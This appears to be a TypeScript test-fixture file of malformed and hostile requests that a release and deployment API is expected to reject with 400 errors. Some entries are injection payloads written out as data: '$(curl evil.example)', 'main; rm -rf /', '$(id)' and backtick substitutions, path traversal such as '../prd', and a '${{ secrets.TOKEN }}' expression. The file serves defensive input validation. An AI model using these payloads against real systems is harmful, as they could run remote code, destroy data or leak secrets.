import { badInputOfPeople } from './badInputOfPeople';

const long = 'x'.repeat(2_000);
const promotion = {
  environment: 'prd',
  release: 'v0.3.6',
  intent: 'rollback',
  reason: 'too slow',
};

export interface BadInput {
  what: string;
  method?: string;
  /** Below the service, or from the root when it starts with `//`. */
  path: string;
  body?: unknown;
  field: string;
}

const ask = (what: string, body: unknown, field: string): BadInput => ({
  what,
  path: '/promotions',
  body,
  field,
});

const build = (ref: string): BadInput => ({
  what: `a branch named ${ref}`,
  path: '/ephemeral-builds',
  body: { ref, environment: 'dev' },
  field: 'ref',
});

const read = (what: string, path: string, field: string): BadInput => ({
  what,
  method: 'GET',
  path,
  field,
});

const report = (what: string, change: object, field: string): BadInput => ({
  what: `a report with ${what}`,
  path: '//deployments',
  body: {
    service: 'component:default/qfa-backend',
    environment: 'dev',
    digest: `sha256:${'a'.repeat(64)}`,
    status: 'success',
    sourceKey: 'job-1-dev',
    ...change,
  },
  field,
});

/** What is refused before anything is looked up: 400 and the field's name. */
export const badInputs: BadInput[] = [
  {
    what: 'a look of the doctor with a field',
    path: '/doctor',
    body: { force: true },
    field: 'force',
  },
  {
    what: 'a look of the doctor at a page',
    method: 'GET',
    path: '/doctor?page=2',
    field: 'page',
  },
  ...[
    ['no name', { name: undefined }, 'name'],
    ['a name with a shell in it', { name: 'release/$(id)' }, 'name'],
    ['a name that climbs', { name: 'release/../main' }, 'name'],
    ['no start', { from: undefined }, 'from'],
    ['a start that is an option', { from: '--force' }, 'from'],
    ['an unknown field', { force: true }, 'force'],
  ].map(([what, change, field]) => ({
    what: `a branch of ${what}`,
    path: '/branches',
    body: { name: 'release/v1.2.3', from: 'main', ...(change as object) },
    field: String(field),
  })),
  {
    what: 'a changelog of no version',
    path: '/changelog',
    body: { version: '../x', entry: 'Fewer surprises' },
    field: 'version',
  },
  {
    what: 'notes that say nothing',
    path: '/releases/v0.3.7/notes',
    body: { notes: ' ' },
    field: 'notes',
  },
  {
    what: 'a tag moved without a reason',
    path: '/tags/v0.3.7/move',
    body: { commit: 'f'.repeat(40) },
    field: 'reason',
  },
  {
    what: 'a tag moved to something that is no commit',
    path: '/tags/v0.3.7/move',
    body: { commit: 'main', reason: 'as it was' },
    field: 'commit',
  },
  {
    what: 'a tag with a name that no tag has',
    path: '/tags/$(id)/move',
    body: { reason: 'as it was' },
    field: 'tag',
  },
  ask('malformed JSON', '{"environment": "prd",', 'body'),
  ask('JSON that is no object', '[]', 'body'),
  ask('an unknown field', { ...promotion, force: true }, 'force'),
  ask('a missing field', { ...promotion, intent: undefined }, 'intent'),
  ask('an unknown intent', { ...promotion, intent: 'yolo' }, 'intent'),
  ask('an over-long reason', { ...promotion, reason: long }, 'reason'),
  ask('an over-long name', { ...promotion, release: long }, 'release'),
  ask('a bad release name', { ...promotion, release: '$(id)' }, 'release'),
  ask('no release', { ...promotion, release: undefined }, 'release'),
  ask(
    'an unknown environment',
    { ...promotion, environment: 'qa' },
    'environment',
  ),
  ask(
    'a bad environment',
    { ...promotion, environment: '../prd' },
    'environment',
  ),
  ask('a bad key', { ...promotion, idempotencyKey: 'a b' }, 'idempotencyKey'),
  build('feat/$(curl evil.example)'),
  build('main; rm -rf /'),
  build('`id`'),
  build('-delete'),
  build('../main'),
  build('${{ secrets.TOKEN }}'),
  build('feat/\nx'),
  ...[
    ['no reason', {}, 'reason'],
    ['a reason too long', { reason: long }, 'reason'],
    ['a bad deployment', { reason: 'as planned', deployment: '$(id)' }],
    ['a bad key', { reason: 'as planned', idempotencyKey: 'a b' }],
    ['an unknown field', { reason: 'as planned', force: true }, 'force'],
  ].map(([what, body, field]) => ({
    what: `a drill with ${what}`,
    path: '/environments/staging/drill',
    body,
    field: String(field ?? Object.keys(body as object).at(-1)),
  })),
  {
    what: 'a drill in an unknown environment',
    path: '/environments/qa/drill',
    body: { reason: 'as planned' },
    field: 'environment',
  },
  {
    what: 'a bad digest where a commit belongs',
    path: '/preflight',
    body: { environment: 'dev', intent: 'ephemeral', commit: 'sha256:beef' },
    field: 'commit',
  },
  {
    what: 'an over-long workflow input',
    path: '/releases',
    body: { inputs: { bump: long } },
    field: 'inputs.bump',
  },
  {
    what: 'a rejection without a reason',
    method: 'PUT',
    path: '/releases/v0.3.7/rejection',
    body: {},
    field: 'reason',
  },
  report('no artifact', { digest: undefined }, 'artifact'),
  report('two artifacts', { commit: 'a'.repeat(40) }, 'artifact'),
  report('a bad digest', { digest: 'sha256:beef' }, 'digest'),
  report('an unknown status', { status: 'live' }, 'status'),
  report('a URL that is no link', { url: 'data:text/html,x' }, 'url'),
  report('a bad time', { at: 'yesterday' }, 'at'),
  report('a bad key', { sourceKey: 'a b' }, 'sourceKey'),
  report('an unknown field', { verified: true }, 'verified'),
  {
    what: 'a repair without a reason',
    path: '/environments/dev/repair',
    body: {},
    field: 'reason',
  },
  {
    what: 'an extension by both ways',
    path: '/environments/dev/extend',
    body: { by: 'P1D', until: '2030-01-01T00:00:00Z' },
    field: 'until',
  },
  {
    what: 'an extension by a bad duration',
    path: '/environments/dev/extend',
    body: { by: '2 days' },
    field: 'by',
  },
  {
    what: 'an unknown command for infrastructure',
    path: '/infrastructure/dev',
    body: { command: 'destroy' },
    field: 'command',
  },
  {
    what: 'infrastructure of an unknown environment',
    path: '/infrastructure/moon',
    body: { command: 'plan' },
    field: 'environment',
  },
  {
    what: 'an unknown field when docs are published',
    path: '/docs/publish',
    body: { release: 'v0.3.7' },
    field: 'release',
  },
  {
    what: 'a runbook without a reason',
    path: '/runbooks/usage-tracking',
    body: { environment: 'dev', inputs: { value: 'false' } },
    field: 'reason',
  },
  {
    what: 'a runbook with an over-long input',
    path: '/runbooks/usage-tracking',
    body: { environment: 'dev', inputs: { value: long }, reason: 'it fails' },
    field: 'inputs.value',
  },
  {
    what: 'a runbook with a value that is none of those allowed',
    path: '/runbooks/usage-tracking',
    body: {
      environment: 'dev',
      inputs: { value: '$(id)' },
      reason: 'it fails',
    },
    field: 'inputs.value',
  },
  {
    what: 'an operation resolved by an unknown outcome',
    path: '//operations/any/resolve',
    body: { outcome: 'maybe', reason: 'who knows' },
    field: 'outcome',
  },
  ...badInputOfPeople,
  read('a bad entity ref', '//promotions?service=qfa-backend', 'service'),
  read('a bad state', '//promotions?state=lost', 'state'),
  read('a bad limit', '/releases?limit=100000', 'limit'),
  read('a bad cursor', '/history?cursor=%FF%00', 'cursor'),
  read('an unknown filter', '//services?colour=red', 'colour'),
  read('a bad commit', '/compare?from=%24HOME&to=v0.3.7', 'from'),
  read('nothing to compare with', '/runtime/parity?left=dev', 'right'),
  read('no slug', '/runtime/parity?left=..%2Fprd&right=dev', 'left'),
  read('two of the same', '/runtime/parity?left=dev&right=dev', 'right'),
  read('no such side', '/runtime/parity?left=qa&right=dev', 'left'),
  {
    what: 'a refresh of a bad environment',
    path: '/runtime/refresh',
    body: { environment: '../prd' },
    field: 'environment',
  },
  read('too many lines', '/environments/prd/logs?limit=101', 'limit'),
  read('lines since a bad time', '/environments/prd/logs?since=now', 'since'),
  read('the log of nothing', '/environments/qa/logs', 'environment'),
];
